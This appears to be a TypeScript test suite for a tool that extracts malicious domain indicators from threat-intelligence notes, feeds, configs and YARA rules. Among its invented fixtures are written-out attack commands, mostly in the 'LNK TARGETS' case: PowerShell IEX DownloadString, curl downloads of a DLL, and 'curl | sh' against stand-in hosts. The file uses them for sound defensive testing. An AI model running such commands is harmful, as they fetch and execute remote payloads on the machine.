// Analysts' notes and lists with comments: what stands among the names says nothing against them; and names that are half told.
import t from 'tap';
import { leftIn, lines, namesIn, namesInFile } from '../support/lists-report.ts';

const imported = (text: string, sourceName = 'notes.txt'): Promise<string[]> => namesInFile(text, sourceName);

const NOTES: readonly (readonly [what: string, text: string, names: readonly string[]])[] = [
  [
    "a server's answer below the lists does not make a page of them",
    lines(
      'THREAT: LOADER',
      '',
      'FILE HASHES',
      'Update.zip',
      '9e107d9d372bb6826bd81d3542a419d6',
      '',
      'PAYLOAD DOWNLOAD URLS',
      'https://kabarawan.com/n1/bg.png',
      'https://awan-data77.com/n2/bg.png',
      '',
      'ANSWER OF THE SERVER',
      'HTTP/1.1 404 Not Found',
      '<!DOCTYPE HTML>',
      '<html><head><title>404</title></head><body>',
      '<h1>Not Found</h1>',
      '<p>Nothing here.</p>',
      '</body></html>',
    ),
    ['kabarawan.com', 'awan-data77.com'],
  ],
  [
    'a link leads to the next one',
    lines(
      'PAYLOAD DOWNLOAD URLS',
      'https://kabarawan.com/a',
      '',
      'which points to:',
      'https://awan-data77.com/b',
      '(This one is a script.)',
      '',
      'https://rapatdaring.wiki/c',
      'I ran it again and saw:',
      'https://unduhan-rapat.com/d',
    ),
    ['kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki', 'unduhan-rapat.com'],
  ],
  [
    'visitors who are not attacked are sent to a harmless page',
    lines(
      'C2 URLS',
      'https://kabarawan.com/a',
      '',
      'FILTERED COMPUTERS REDIRECTED TO:',
      'https://lawreview.example.net/x',
    ),
    ['kabarawan.com'],
  ],
  [
    'a heading that says what is fetched, and no more',
    lines(
      'LOADER PAYLOAD DOWNLOAD',
      'https://kabarawan.com/api/v3',
      '',
      'PAYLOAD DOWNLOAD FILE HASH',
      'update.one',
    ),
    ['kabarawan.com'],
  ],
  [
    'addresses in brackets behind a name',
    lines(
      '=== C&C servers',
      '',
      '- `kabarawan.com` (IP addresses: `192.0.2.1`, `192.0.2.2`)',
      '- `awan-data77.com` (IP: `192.0.2.3`)',
    ),
    ['kabarawan.com', 'awan-data77.com'],
  ],
  [
    'sources of malware are no sources of the report',
    lines(
      '=== Malware sources',
      '',
      'https://kabarawan[.]com/setup',
      '',
      '=== Sources',
      '',
      'https://lentera-labs[.]com/blog',
    ),
    ['kabarawan.com'],
  ],
  [
    "a remote control's settings",
    lines(
      '[HTTP]',
      'CMPI=60',
      'GatewayAddress=kabarawan.com:443',
      'SecondaryGateway=awan-data77.com:443',
      'Licensee=lentera-labs.com',
    ),
    ['kabarawan.com', 'awan-data77.com'],
  ],
  [
    'the table of the feeds that a collection is made of',
    lines(
      '| Filename | Provider | Homepage | List URL | License/TOU |',
      '|---|---|---|---|---|',
      '| a.intel | Lentera | https://www.lentera-labs.com/ | https://www.lentera-labs.com/banlist.txt | https://www.lentera-labs.com/ |',
    ),
    [],
  ],
  [
    'members of objects and fields of logs',
    lines(
      'Network indicators',
      '- domain.name',
      '- host.name',
      '- a.click()',
      '- a.download = name',
      '- https://host.name/gate.php',
      '- kabarawan.com',
    ),
    ['host.name', 'kabarawan.com'],
  ],
  [
    "a forum's link is a plain one",
    lines('From a forum: [url]http://www.lentera-labs.com[/url]', 'hxxp[:]//kabarawan[.]com/'),
    ['kabarawan.com'],
  ],
  [
    "what an intruder's commands fetch, and not what the reader is told to",
    lines(
      'LNK TARGETS',
      'C:\\Windows\\System32\\cmd.exe /q /c echo "x" && ping NP2F.com && curl.exe -o C:\\Users\\a\\b.dll https://kabarawan.com/a.png',
      'powershell.exe -NoExit iwr -Uri https://awan-data77.com/D.png -OutFile $env:TEMP\\x',
      'powershell IEX (New-Object Net.WebClient).DownloadString("http://rapatdaring.wiki/i.php")',
      'explorer.exe https://news-lentera.com/a C:\\x',
      'curl https://raw.lentera-labs.com/check.sh | sh',
      'More of powershell.exe: https://lentera-labs.com/blog',
    ),
    ['kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki'],
  ],
  [
    "names below roots of somebody's own",
    lines('C2 domains:', 'rekening-awan.bit', 'kabar[.]bazar', 'rapat.com.lan'),
    ['rekening-awan.bit', 'kabar.bazar'],
  ],
];

t.test('notes of analysts', async (t) => {
  for (const [what, text, names] of NOTES) t.same(await imported(text), names, what);
});

t.test(
  'of a name that is half told nothing is taken; a pattern of names is the name they share',
  async (t) => {
    const text = lines(
      '## C2 servers',
      '- server-{1,30}[.]kabarawan.xyz',
      '- {random}.awan-data77[.]top',
      '- <random string>.rapatdaring[.]wiki',
      '- [REDACTED].unduhan-rapat[.]com',
      '- [REDACTED].company-a.com',
      '- <redacted>.company-b.com',
      '- ***.company-c.com',
      '- mobile.p[BLOCKED]h[.]com',
      '- http://[censored]loads.ru/x',
    );
    t.same(namesIn(text), ['kabarawan.xyz', 'awan-data77.top', 'rapatdaring.wiki', 'unduhan-rapat.com']);
    t.same(
      leftIn(text).filter((each) => each.endsWith(' unsure')),
      [
        'company-a.com unsure',
        'company-b.com unsure',
        '*.company-c.com unsure',
        'h[.]com unsure',
        'loads.ru unsure',
      ],
    );
  },
);

const TRAILS: readonly (readonly [what: string, text: string])[] = [
  ['a hash by which they were found', '# HEADER_HASH-HOST=d400ac6968bef7b11870'],
  ['other names of the malware', '# Aliases: cve-2022-41040, loader-x'],
  ['a hash of two kinds', '# CLASS_HASH-HOST/IP=7821f3ae28d83fcdf36c1b47f4255f2b'],
  [
    'connections to addresses, and where the next part is from',
    '# IP connections\n\n192.0.2.2:443\n\n# Reference: https://lentera-labs.com/b',
  ],
  ['a loader that cleans up', '# Generic cleanup loader'],
  ['paths', '/source/hosting\n/hashes'],
];

t.test('what stands between the names of a list with comments does not end it', async (t) => {
  for (const [what, comment] of TRAILS) {
    const text = lines(
      '# Of a sensor',
      '',
      '192.0.2.1:8080',
      'kabarawan.com',
      '',
      comment,
      '',
      'awan-data77.com',
      'rapatdaring.wiki/a',
    );
    t.same(await imported(text), ['kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki'], what);
  }
  t.same(
    await imported(lines('kabarawan.com', 'awan-data77.com', '# Legitimate', 'lentera-labs.com')),
    ['kabarawan.com', 'awan-data77.com'],
    'that they are legitimate does',
  );
  t.same(
    await imported(
      lines('kabarawan.com', 'gov.in.rapatdaring.wiki', 'com-login.awan-data77.com', '# x', '192.0.2.1:80'),
    ),
    ['kabarawan.com', 'gov.in.rapatdaring.wiki', 'com-login.awan-data77.com'],
    'an imitation is no package of a program',
  );
});

t.test('what only looks like another kind is read as notes', async (t) => {
  t.same(
    await imported(
      lines(
        '= Indicators',
        ':url: https://lentera-labs.com',
        '',
        'The following are',
        'indicators:',
        '',
        'C2: hxxp://kabarawan[.]com/',
      ),
    ),
    ['kabarawan.com'],
    'a line of prose that is a key elsewhere',
  );
  t.same(
    await imported(lines('kabarawan.com. 21600 IN NS a.ns.lentera-labs.com.', 'see also awan[.]wiki')),
    ['awan.wiki'],
    'an answer about name servers is no zone',
  );
  t.same(
    await imported('Host,kabarawan.com\n', 'one.csv'),
    ['kabarawan.com'],
    'a table of one row without a header',
  );
  t.same(await imported('Note,kabarawan.com\n', 'one.csv'), [], 'that says what it is');
});

t.test('whom a bot attacks by its orders is a victim', async (t) => {
  const orders =
    '<config><tasks><task type="http" period="0" method="GET" host="www.bank-kabar.com" path="/"/></tasks></config>';
  t.same(await imported(orders, 'orders.xml'), []);
  const feed = '<list><entry host="kabarawan.com" port="443"/></list>';
  t.same(
    await imported(feed, 'feed.xml'),
    ['kabarawan.com'],
    'a field of hosts alone says nothing against them',
  );
  const settings = (c2: string): string =>
    `{"family":"kabar","c2":[{"url":"http://kabarawan.com/a","method":"POST",${c2}}]}`;
  for (const c2 of ['"interval":60', '"delay":"60"'])
    t.same(
      await imported(settings(c2), 'settings.json'),
      ['kabarawan.com'],
      'how an implant asks its own server',
    );
  t.same(
    await imported(
      '{"family":"kabar","targets":[{"host":"www.bank-kabar.com","method":"GET","delay":"5"}]}',
      'orders.json',
    ),
    [],
  );
});

t.test('a name whose end nobody knows is none where any indicator may stand', async (t) => {
  t.same(
    await imported(
      lines('kabarawan.com', 'awan.xzy', 'data.ddnsnet', '192.0.2.1:80', 'https://rapatdaring.wiki/a'),
    ),
    ['kabarawan.com', 'rapatdaring.wiki'],
  );
});

t.test("what a builder of sites keeps for all of its customers is nobody's own", async (t) => {
  const text = lines(
    'C2 domains:',
    'cdn.prod.website-files.com',
    'img1.wsimg.com',
    'kabarawan.webflow.io',
    'awan-data77.com',
  );
  t.same(await imported(text), ['kabarawan.webflow.io', 'awan-data77.com']);
});

t.test('a list of false positives is none of names to block', async (t) => {
  for (const name of ['fps_2026.txt', 'false-positives.txt', 'FalsePositive.csv'])
    t.same(await imported(lines('kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki'), name), [], name);
  t.equal(
    (await imported(lines('kabarawan.com', 'awan-data77.com', 'rapatdaring.wiki'), 'fps-loader.txt')).length,
    3,
  );
});

t.test("YARA's expressions mark nothing, and what a rule cites is no indicator", async (t) => {
  const rule = lines(
    'rule loader {',
    '  meta:',
    '    reference = "hxxps://lentera-labs[.]com/blog"',
    '  strings:',
    '    $a = /GET \\/bot\\.html (Bot\\/1\\.0;\\+http:\\/\\/crawler-kabar\\.com\\/)/',
    '    $b = /self\\.conn\\.readInt8/',
    '    $c2_1 = "kabarawan.com"',
    '    $testdomain = "testdomain-kabar.com"',
    '  condition: any of them',
    '}',
  );
  t.same(await imported(rule, 'a.yar'), ['kabarawan.com']);
});
